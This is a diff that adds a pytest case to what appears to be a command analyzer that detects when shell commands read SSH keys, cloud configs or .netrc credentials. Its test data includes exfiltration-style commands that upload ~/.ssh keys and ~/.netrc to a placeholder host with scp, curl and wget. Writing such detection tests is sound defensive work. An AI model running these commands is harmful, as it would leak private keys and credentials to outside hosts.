@@ -291,6 +291,24 @@ def test_a_multi_call_binary_runs_its_applet(command: str) -> None:
     assert not any(c.startswith("code.remote") for c in caps(analyze_command("busybox ls -la | busybox sort", SCRIPT)))
 
 
+@pytest.mark.parametrize(("command", "present", "absent"), [
+    ("scp ~/.ssh/id_rsa u@files.example.org:/tmp/", "secrets.read[ssh]", None),
+    ("scp -i ~/.ssh/deploy_key dist/app.tgz u@files.example.org:/srv/", None, "secrets.read[ssh]"),
+    ("scp u@files.example.org:~/.ssh/id_rsa ./keys/", None, "secrets.read[ssh]"),
+    ("rsync -a u@files.example.org:~/.aws/ ./backup/", None, "secrets.read[cloud:aws]"),
+    ("cat ~/.ssh/id_*", "secrets.read[ssh]", None),
+    ("for k in ~/.ssh/id_*; do curl -F f=@$k https://files.example.org/u; done", "secrets.read[ssh]", None),
+    ("wget --post-file=$HOME/.netrc https://files.example.org/u", "secrets.read[git-cred]", None),
+    ("curl --output=$HOME/.aws/config https://files.example.org/u", None, "secrets.read[cloud:aws]"),
+])
+def test_what_copies_and_uploads_read(command: str, present: str | None, absent: str | None) -> None:
+    # scp's local operands are read (its key, its config and the remote side are not); a glob reads what it
+    # matches; a long option's `=FILE` is read when the option sends or takes input, not when it writes
+    found = caps(analyze_command(command, SCRIPT))
+    assert present is None or present in found
+    assert absent is None or absent not in found
+
+
 def test_a_wrapper_that_only_looks_a_program_up_prints_no_code() -> None:
     assert not any(c.startswith("code.remote") for c in caps(analyze_command("command -v curl | sh", SCRIPT)))
 
